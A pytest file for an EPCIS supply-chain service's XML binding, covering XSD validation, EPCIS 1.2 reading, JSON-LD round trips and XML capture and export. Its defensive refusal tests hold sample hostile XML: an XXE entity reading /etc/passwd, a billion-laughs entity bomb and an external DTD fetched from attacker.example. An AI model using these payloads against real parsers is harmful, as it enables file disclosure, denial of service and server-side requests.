"""EPCIS XML binding: the shipped XSDs are GS1's; XML versions of every official example validate against the
2.0 XSD and read back as the JSON-LD example; EPCIS 1.2 documents (extension-wrapped fields, a
TransformationEvent under EventList/extension, a QuantityEvent) are read; XSD failures name the rule, line and
element; hostile XML (external entities, billion laughs, DTDs, too deep, too many elements) is refused before
anything is written; capture over XML behaves as capture over JSON; a lot's export comes as XML on request and
validates against the 2.0 XSD.

``tests/data/epcis_xml/`` holds the XML versions of ``shared/epcis/examples/*.jsonld`` (written with
``document_to_xml`` and checked here against the XSD and against the JSON they came from), one EPCIS 1.2
document and one 2.0 document with master data, an error declaration and user extensions.
"""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from sqlalchemy import func, select

from supply_chain.domain.errors import InvalidInput
from supply_chain.services.epcis import validate_document
from supply_chain.services.epcis import xml as epcis_xml
from supply_chain.store.models import CaptureJob, Event
from tests.api.conftest import Member, new_code
from tests.api.test_epcis import EXAMPLES, SHARED, assert_valid_epcis

DATA = Path(__file__).resolve().parents[1] / "data" / "epcis_xml"
PACKAGE_XSD = Path(epcis_xml.__file__).resolve().parents[1] / "schemas"


def _xsd_20() -> etree.XMLSchema:
    return etree.XMLSchema(etree.parse(str(SHARED / "xsd-2.0" / "EPCglobal-epcis-2_0.xsd")))


# ------------------------------------------------------------------ comparing JSON-LD documents


def _bare(value: Any, vocabulary: str) -> Any:
    prefix = f"urn:epcglobal:cbv:{vocabulary}:"
    return value[len(prefix) :] if isinstance(value, str) and value.startswith(prefix) else value


def _extension(value: Any) -> Any:
    """XML text is text: an extension's numbers and booleans come back as strings, a one-item array as the
    item (JSON-LD reads both the same)."""
    if isinstance(value, dict):
        return {k: _extension(v) for k, v in value.items()}
    if isinstance(value, list):
        items = [_extension(v) for v in value]
        return items[0] if len(items) == 1 else items
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return format(Decimal(str(value)).normalize(), "f")
    return value


def _number(value: Any) -> Decimal:
    return Decimal(str(value)).normalize()


def _event(event: dict[str, Any]) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for key, value in event.items():
        if key in ("bizStep", "disposition"):
            out[key] = _bare(value, "bizstep" if key == "bizStep" else "disp")
        elif key.endswith("uantityList"):
            out[key] = [q | ({"quantity": _number(q["quantity"])} if "quantity" in q else {}) for q in value]
        elif key == "bizTransactionList":
            out[key] = [b | ({"type": _bare(b["type"], "btt")} if "type" in b else {}) for b in value]
        elif key in ("sourceList", "destinationList"):
            out[key] = [s | {"type": _bare(s["type"], "sdt")} for s in value]
        elif key == "persistentDisposition":
            out[key] = {k: [_bare(d, "disp") for d in v] for k, v in value.items()}
        elif key == "errorDeclaration":
            out[key] = value | ({"reason": _bare(value["reason"], "er")} if "reason" in value else {})
        elif key == "sensorElementList":
            out[key] = [
                {
                    k: (
                        [
                            {
                                a: _number(b)
                                if a in epcis_xml._SENSOR_NUMBERS
                                else (b.removeprefix("gs1:") if a == "type" else b)
                                for a, b in report.items()
                            }
                            for report in v
                        ]
                        if k == "sensorReport"
                        else (v if k == "sensorMetadata" else _extension(v))
                    )
                    for k, v in element.items()
                    if k != "type"  # "epcis:SensorElement", a JSON-LD type tag with no XML counterpart
                }
                for element in value
            ]
        elif key == "ilmd" or ":" in key:
            out[key] = _extension(value)
        else:
            out[key] = value
    return out


def normalise(document: dict[str, Any]) -> dict[str, Any]:
    """A document as the JSON-LD data model sees it: without @context and the document's blank-node id, CBV
    values as bare words, numbers as decimals."""
    out = {k: v for k, v in document.items() if k not in ("@context", "id", "epcisBody")}
    out["epcisBody"] = {"eventList": [_event(e) for e in document["epcisBody"]["eventList"]]}
    return out


# ------------------------------------------------------------------ the schemas and the XML examples


@pytest.mark.parametrize("version", ["xsd-2.0", "xsd-1.2"])
def test_shipped_xsds_are_gs1s(version: str) -> None:
    shipped = {p.name: p.read_bytes() for p in (PACKAGE_XSD / version).iterdir()}
    reference = {p.name: p.read_bytes() for p in (SHARED / version).iterdir()}
    assert shipped == reference


JSON_EXAMPLES = sorted(p.name for p in EXAMPLES.iterdir())


def test_every_json_example_has_its_xml_version() -> None:
    assert {n.replace(".jsonld", ".xml") for n in JSON_EXAMPLES} <= {p.name for p in DATA.iterdir()}


@pytest.mark.parametrize("name", JSON_EXAMPLES)
def test_xml_version_of_example_validates_and_reads_as_the_json_example(name: str) -> None:
    raw = (DATA / name.replace(".jsonld", ".xml")).read_bytes()
    assert _xsd_20().validate(etree.fromstring(raw))
    original = json.loads((EXAMPLES / name).read_text())
    assert normalise(epcis_xml.document_from_xml(raw)) == normalise(original)


@pytest.mark.parametrize("name", JSON_EXAMPLES)
def test_json_example_written_as_xml_validates_and_reads_back_equal(name: str) -> None:
    original = json.loads((EXAMPLES / name).read_text())
    raw = epcis_xml.document_to_xml(original)
    schema = _xsd_20()
    assert schema.validate(etree.fromstring(raw)), schema.error_log
    assert normalise(epcis_xml.document_from_xml(raw)) == normalise(original)


def test_epcis_1_2_document_reads_as_epcis_2_0() -> None:
    document = epcis_xml.document_from_xml((DATA / "epcis-1.2-object-quantity-transformation.xml").read_bytes())
    validate_document(document)
    commissioning, quantity, transformation = document["epcisBody"]["eventList"]
    # eventID and errorDeclaration came from baseExtension; quantityList and ilmd from extension
    assert commissioning["eventID"] == "urn:uuid:11111111-2222-3333-4444-555555555555"
    assert commissioning["errorDeclaration"] == {"declarationTime": "2013-06-09T10:00:00Z", "reason": "incorrect_data"}
    assert commissioning["quantityList"] == [
        {"epcClass": "urn:epc:class:lgtin:4012345.012345.998877", "quantity": 200, "uom": "KGM"}
    ]
    assert commissioning["ilmd"] == {"example:bestBeforeDate": "2014-12-10"}
    # a 1.2 QuantityEvent is an ObjectEvent OBSERVE of that quantity
    assert quantity["type"] == "ObjectEvent" and quantity["action"] == "OBSERVE"
    assert quantity["quantityList"] == [{"epcClass": "urn:epc:class:lgtin:4012345.012345.998877", "quantity": 5}]
    # the TransformationEvent wrapped in EventList/extension
    assert transformation["type"] == "TransformationEvent"
    assert transformation["ilmd"] == {"example:bestBeforeDate": "2014-12-10", "example:batch": "XYZ"}
    assert transformation["example:myField"] == "Example of a vendor/user extension"
    assert {"example": "http://ns.example.com/epcis"} in document["@context"]
    assert _xsd_20().validate(etree.fromstring(epcis_xml.document_to_xml(document)))


def test_every_2_0_field_survives_xml_to_json_to_xml() -> None:
    raw = (DATA / "epcis-2.0-header-errors-extensions.xml").read_bytes()
    document = epcis_xml.document_from_xml(raw)
    validate_document(document)
    event = document["epcisBody"]["eventList"][0]
    assert event["errorDeclaration"] == {
        "declarationTime": "2025-03-02T09:00:00Z",
        "reason": "incorrect_data",
        "correctiveEventIDs": ["urn:uuid:6a8a4a46-0d7c-4d4f-9b5e-2f0f2c6f7a02"],
        "acme:ticket": "T-42",
    }
    assert event["certificationInfo"] == "https://acme.example/certificates/organic-2025"
    assert event["persistentDisposition"] == {"set": ["completeness_verified"], "unset": ["completeness_inferred"]}
    assert [b.get("type") for b in event["bizTransactionList"]] == ["po", "inv", None]
    assert event["quantityList"][1] == {"epcClass": "https://id.gs1.org/01/00614141123452"}
    reports = event["sensorElementList"][0]["sensorReport"]
    assert [r["value"] for r in reports[:2]] == [3.5, 3.7]  # two readings at the same time, both kept
    assert reports[2] == {"type": "gs1:Humidity", "minValue": 80, "maxValue": 92.5, "uom": "A93", "booleanValue": False}
    assert event["sensorElementList"][0]["sensorMetadata"]["acme:calibrated"] == "2025-01-01"
    assert event["acme:weight"] == {"@value": "12.5", "unit": "KGM"}
    assert event["acme:tag"] == ["red", "fresh"]
    assert event["acme:inspection"] == {"acme:by": "Lab 1", "acme:result": "pass"}
    assert event["readPoint"] == {"id": "urn:epc:id:sgln:0614141.00777.0", "acme:dock": "3"}
    location = document["epcisHeader"]["epcisMasterData"]["vocabularyList"][0]["vocabularyElementList"][0]
    assert location["attributes"][1]["attribute"] == {"acme:street": "1 Quay Road", "acme:city": "Salinas"}
    assert location["children"] == ["urn:epc:id:sgln:0614141.00777.1"]
    assert [e["type"] for e in document["epcisBody"]["eventList"]] == [
        "ObjectEvent",
        "AssociationEvent",
        "TransactionEvent",
    ]
    again = epcis_xml.document_to_xml(document)
    assert _xsd_20().validate(etree.fromstring(again))
    assert epcis_xml.document_from_xml(again) == document


# ------------------------------------------------------------------ refusals (no network, no DTD, limits)

HOSTILE = {
    "external entity (XXE)": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2025-01-01T00:00:00Z">
<EPCISBody><EventList><ObjectEvent><eventTime>&x;</eventTime></ObjectEvent></EventList></EPCISBody>
</epcis:EPCISDocument>""",
    "billion laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<lolz>&lol3;</lolz>""",
    "external DTD": b"""<?xml version="1.0"?>
<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
  creationDate="2025-01-01T00:00:00Z"/>""",
    "internal DTD declarations": b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ELEMENT d ANY>]><d/>""",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_before_parsing_expands_anything(name: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        epcis_xml.document_from_xml(HOSTILE[name])
    assert refused.value.code == "xml_dtd_forbidden"
    assert "DTD" in refused.value.message or "entities" in refused.value.message
    assert "root:" not in refused.value.message  # /etc/passwd never read


def test_a_bare_doctype_line_is_accepted() -> None:
    # GS1's own XML examples start with <!DOCTYPE project>, declaring nothing
    document = epcis_xml.document_from_xml((DATA / "epcis-2.0-header-errors-extensions.xml").read_bytes())
    assert len(document["epcisBody"]["eventList"]) == 3


def test_too_deep_and_too_many_elements_are_refused() -> None:
    deep = b"<a>" * 150 + b"</a>" * 150
    with pytest.raises(InvalidInput) as refused:
        epcis_xml.parse_xml(deep, max_depth=100)
    assert refused.value.code == "body_too_deep"
    many = b"<a>" + b"<b/>" * 50 + b"</a>"
    with pytest.raises(InvalidInput) as refused:
        epcis_xml.parse_xml(many, max_elements=20)
    assert refused.value.code == "body_too_many_items"


# ------------------------------------------------------------------ capture over XML


def _count(runtime, model=Event) -> int:  # noqa: ANN001
    with runtime.ctx() as ctx:
        return ctx.session.scalar(select(func.count()).select_from(model))


def _post_xml(client, member: Member, raw: bytes, media: str = "application/xml"):  # noqa: ANN202
    return client.post("/api/v1/epcis/capture", data=raw, headers=member.headers() | {"Content-Type": media})


@pytest.fixture(scope="module")
def xml_orgs(api_runtime, network) -> dict[str, Member]:
    from supply_chain.services import orgs, tokens

    out = {}
    with api_runtime.ctx() as ctx:
        org = orgs.onboard(ctx, network["regulator"].org, "EPCIS XML Receiver", ["processor"])
        member = Member("receiver", org, "", "")
        _, member.write = tokens.create(ctx, org, "epcis-xml", "write")
        out["receiver"] = member
        ctx.session.commit()
    return out


XML_NOT_YET_EQUAL: set[str] = set()
"""Official examples whose XML version is not yet recognised as the same events (none now; an entry would name
a known gap in docs/epcis.md)."""


@pytest.mark.parametrize("name", sorted(p.name for p in EXAMPLES.glob("*.jsonld")))
def test_xml_version_of_official_example_is_the_same_events_as_the_json(
    client, api_runtime, xml_orgs, name: str
) -> None:
    """Captured after its JSON-LD original, the XML version of each official example is recognised as the very
    same events (the same CBV 2.0 event hash IDs: every event a duplicate, nothing stored twice); where the JSON
    is schema-invalid, the XML (valid against the XSD) is refused by the same JSON Schema rule."""
    receiver = xml_orgs["receiver"]
    as_json = client.post(
        "/api/v1/epcis/capture",
        data=(EXAMPLES / name).read_bytes(),
        headers=receiver.headers() | {"Content-Type": "application/ld+json"},
    )
    before = _count(api_runtime), _count(api_runtime, CaptureJob)
    response = _post_xml(client, receiver, (DATA / name.replace(".jsonld", ".xml")).read_bytes())
    body = response.get_json()
    if as_json.status_code == 400:  # XSD-valid, but ilmd with OBSERVE breaks the JSON Schema's rule
        assert response.status_code == 400 and body["error"] == as_json.get_json()["error"] == "epcis_schema_invalid"
        assert body["field"] == as_json.get_json()["field"] == "epcisBody.eventList[0].ilmd"
        assert (_count(api_runtime), _count(api_runtime, CaptureJob)) == before
    elif as_json.status_code == 422:
        # 9.6.2 after test_epcis.py shipped its lot 998877 to another receiver in this shared store: the
        # receiving is refused for this one, as JSON and as XML alike - the same event, the same refusal
        rejected = as_json.get_json()
        assert response.status_code == 422, body
        assert [(e["hashID"], e["status"], e.get("code")) for e in body["events"]] == [
            (e["hashID"], e["status"], e.get("code")) for e in rejected["events"]
        ]
        assert (_count(api_runtime), _count(api_runtime, CaptureJob)) == before
    else:
        assert as_json.status_code == 202, as_json.get_json()
        assert response.status_code == 202, body
        statuses = {e["status"] for e in body["events"]}
        if name in XML_NOT_YET_EQUAL:
            assert "duplicate" not in statuses, f"{name} is equal now: take it off XML_NOT_YET_EQUAL"
        else:
            assert body["events"] and statuses == {"duplicate"}, body["events"]
            assert _count(api_runtime) == before[0]


def test_xsd_failure_names_the_rule_line_and_element_and_writes_nothing(client, api_runtime, network) -> None:
    raw = b"""<?xml version="1.0" encoding="UTF-8"?>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" creationDate="2025-01-01T00:00:00Z">
  <EPCISBody>
    <EventList>
      <ObjectEvent>
        <eventTime>2025-01-01T00:00:00Z</eventTime>
        <eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
        <action>MOVE</action>
      </ObjectEvent>
    </EventList>
  </EPCISBody>
</epcis:EPCISDocument>"""
    before = _count(api_runtime), _count(api_runtime, CaptureJob)
    response = _post_xml(client, network["producer"], raw, "text/xml")
    body = response.get_json()
    assert response.status_code == 400, body
    assert body["error"] == "epcis_schema_invalid"
    assert body["field"] == "/epcis:EPCISDocument/EPCISBody/EventList/ObjectEvent/action"
    assert "line 8" in body["message"] and "enumeration" in body["message"] and "'MOVE'" in body["message"]
    assert (_count(api_runtime), _count(api_runtime, CaptureJob)) == before


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (HOSTILE["external entity (XXE)"], "xml_dtd_forbidden"),
        (HOSTILE["billion laughs"], "xml_dtd_forbidden"),
        (b"<epcis:EPCISDocument xmlns:epcis='urn:epcglobal:epcis:xsd:2'>", "malformed_xml"),
        (b"<a>" * 101 + b"</a>" * 101, "body_too_deep"),
        (b"<Document xmlns='urn:example'/>", "epcis_schema_invalid"),
        (b"", "missing_body"),
    ],
)
def test_bad_xml_bodies_are_refused_with_a_named_reason(client, api_runtime, network, raw: bytes, code: str) -> None:
    before = _count(api_runtime, CaptureJob)
    response = _post_xml(client, network["producer"], raw)
    assert response.status_code == 400, response.get_json()
    assert response.get_json()["error"] == code
    assert _count(api_runtime, CaptureJob) == before


def test_xml_to_an_operation_that_takes_json_is_415(client, network) -> None:
    response = client.post(
        "/api/v1/products",
        data=b"<product/>",
        headers=network["producer"].headers() | {"Content-Type": "application/xml"},
    )
    assert response.status_code == 415
    assert response.get_json()["error"] == "unsupported_media_type"


def _farm_xml(producer: Member, processor: Member, romaine: str, spinach: str) -> bytes:
    """A farm's shipment as a partner system writes it in EPCIS 1.2 XML: URNs for steps and dispositions,
    SGLN/LGTIN identifiers, quantityList under extension, eventID under baseExtension."""
    prefix, item = producer.gtin[1:8], producer.gtin[0] + producer.gtin[8:13]
    farm = f"urn:epc:id:sgln:{producer.gln[:7]}.{producer.gln[7:12]}.0"
    plant = f"urn:epc:id:sgln:{processor.gln[:7]}.{processor.gln[7:12]}.0"
    lots = "".join(
        f"<quantityElement><epcClass>urn:epc:class:lgtin:{prefix}.{item}.{code}</epcClass>"
        f"<quantity>{qty}</quantity><uom>KGM</uom></quantityElement>"
        for code, qty in ((romaine, "500"), (spinach, "120.5"))
    )
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:1" schemaVersion="1.2" creationDate="2025-06-01T12:00:00Z">
  <EPCISBody><EventList>
    <ObjectEvent>
      <eventTime>2025-06-01T06:30:00.250-07:00</eventTime><eventTimeZoneOffset>-07:00</eventTimeZoneOffset>
      <baseExtension><eventID>urn:uuid:00000000-0000-4000-8000-{romaine[-5:]:0>12}</eventID></baseExtension>
      <epcList/><action>ADD</action>
      <bizStep>urn:epcglobal:cbv:bizstep:commissioning</bizStep><disposition>urn:epcglobal:cbv:disp:active</disposition>
      <readPoint><id>{farm}</id></readPoint><bizLocation><id>{farm}</id></bizLocation>
      <extension><quantityList>{lots}</quantityList></extension>
    </ObjectEvent>
    <ObjectEvent>
      <eventTime>2025-06-02T14:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
      <baseExtension><eventID>urn:uuid:00000000-0000-4000-8001-{romaine[-5:]:0>12}</eventID></baseExtension>
      <epcList/><action>OBSERVE</action>
      <bizStep>urn:epcglobal:cbv:bizstep:shipping</bizStep><disposition>urn:epcglobal:cbv:disp:in_transit</disposition>
      <readPoint><id>{farm}</id></readPoint>
      <bizTransactionList>
        <bizTransaction type="urn:epcglobal:cbv:btt:bol"
          >urn:epcglobal:cbv:bt:{producer.gln}:BOL-{romaine}</bizTransaction>
      </bizTransactionList>
      <extension>
        <quantityList>{lots}</quantityList>
        <sourceList><source type="urn:epcglobal:cbv:sdt:location">{farm}</source></sourceList>
        <destinationList><destination type="urn:epcglobal:cbv:sdt:location">{plant}</destination></destinationList>
      </extension>
    </ObjectEvent>
  </EventList></EPCISBody>
</epcis:EPCISDocument>""".encode()


def test_round_trip_xml_capture_then_export_as_xml_and_json(client, network) -> None:
    producer, processor = network["producer"], network["processor"]
    romaine, spinach = new_code("XRT"), new_code("XRT")
    response = _post_xml(client, producer, _farm_xml(producer, processor, romaine, spinach))
    job = response.get_json()
    assert response.status_code == 202 and job["status"] == "done", job
    assert [e["status"] for e in job["events"]] == ["captured", "captured"]

    path = f"/api/v1/lots/{producer.gtin}/{romaine}/epcis"
    as_xml = client.get(path, headers=producer.headers("read") | {"Accept": "application/xml"})
    assert as_xml.status_code == 200 and as_xml.mimetype == "application/xml"
    schema = _xsd_20()
    assert schema.validate(etree.fromstring(as_xml.data)), schema.error_log
    as_json = client.get(path, headers=producer.headers("read"))
    assert as_json.mimetype == "application/ld+json"
    document = as_json.get_json()
    assert_valid_epcis(document)
    # the XML export is the JSON export in the other binding
    from_xml = epcis_xml.document_from_xml(as_xml.data)
    assert normalise(from_xml) | {"creationDate": None} == normalise(document) | {"creationDate": None}
    # the producer's own captured events come back as captured: the JSON-LD form of the 1.2 XML it sent
    # (URNs, CBV words, both lots in one event), plus recordTime
    sent = epcis_xml.document_from_xml(_farm_xml(producer, processor, romaine, spinach))["epcisBody"]["eventList"]
    exported = [{k: v for k, v in e.items() if k != "recordTime"} for e in document["epcisBody"]["eventList"]]
    assert exported == sent
    created, shipped = exported
    assert created["action"] == "ADD" and created["bizStep"] == "commissioning"
    assert created["eventTime"].startswith("2025-06-01T06:30:00.25") and created["eventTimeZoneOffset"] == "-07:00"
    assert shipped["bizStep"] == "shipping" and shipped["disposition"] == "in_transit"
    assert [(q["quantity"], q["uom"]) for q in shipped["quantityList"]] == [(500, "KGM"), (120.5, "KGM")]
    assert shipped["bizTransactionList"] == [
        {"type": "bol", "bizTransaction": f"urn:epcglobal:cbv:bt:{producer.gln}:BOL-{romaine}"}
    ]
    plant = f"urn:epc:id:sgln:{processor.gln[:7]}.{processor.gln[7:12]}.0"
    assert shipped["destinationList"] == [{"type": "location", "destination": plant}]


def test_export_answers_json_ld_unless_xml_is_preferred(client, network) -> None:
    producer = network["producer"]
    code = new_code("XA")
    lot = {
        "gtin": producer.gtin,
        "lot_code": code,
        "kind": "harvesting",
        "quantity": "5",
        "payload": {"location_gln": producer.gln, "harvest_date": "2025-06-01", "commodity": "x"},
    }
    assert client.post("/api/v1/lots", json=lot, headers=producer.headers()).status_code == 201
    path = f"/api/v1/lots/{producer.gtin}/{code}/epcis"
    for accept, media in (
        ("*/*", "application/ld+json"),
        ("application/json", "application/ld+json"),
        ("text/xml", "text/xml"),
        ("application/ld+json;q=0.5, application/xml", "application/xml"),
    ):
        response = client.get(path, headers=producer.headers("read") | {"Accept": accept})
        assert response.status_code == 200 and response.mimetype == media, accept
    assert _xsd_20().validate(etree.fromstring(response.data))


def test_a_json_key_that_is_no_xml_name_is_refused_naming_it() -> None:
    document = json.loads((EXAMPLES / "Example_9.6.2-ObjectEvent.jsonld").read_text())
    document["@context"] = [*document["@context"], {"acme": "https://acme.example/"}]
    document["epcisBody"]["eventList"][0]["acme:1st grade"] = "A"
    with pytest.raises(InvalidInput) as refused:
        epcis_xml.document_to_xml(document)
    assert refused.value.field == "acme:1st grade" and "NCName" in refused.value.message
